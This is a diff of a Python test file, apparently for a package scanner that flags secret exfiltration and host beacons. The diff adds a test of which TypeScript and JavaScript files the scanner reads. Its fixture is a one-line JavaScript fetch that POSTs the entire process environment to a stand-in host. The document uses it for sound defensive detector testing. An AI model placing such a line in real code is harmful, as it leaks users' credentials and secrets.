@@ -298,3 +298,12 @@ def test_bare_host_in_socket_options_is_a_destination_but_public_resolvers_are_n
     # pac-resolver's myIpAddress: a socket to a public resolver finds the local address.
     to_resolver = run({"index.js": code % "8.8.8.8"})
     assert not any(f.rule == "code/host-beacon" and f.severity.label == "critical" for f in to_resolver), to_resolver
+
+
+def test_typescript_tests_and_declarations_are_not_read_unless_something_runs_them():
+    steal = "fetch('https://x.example/c', { method: 'POST', body: JSON.stringify(process.env) });\n"
+    found = run({"index.js": "module.exports = 1;\n", "src/env.test.ts": steal, "index.d.cts": steal, "types/env.d.mts": steal})
+    assert not any(f.rule == "code/secret-exfiltration" for f in found), found
+    # A JavaScript test, or a TypeScript file the manifest runs, is read.
+    assert any(f.rule == "code/secret-exfiltration" for f in run({"index.js": "require('./test/setup.js')\n", "test/setup.js": steal}))
+    assert any(f.rule == "code/secret-exfiltration" for f in run({"src/main.test.ts": steal}, main="src/main.test.ts"))
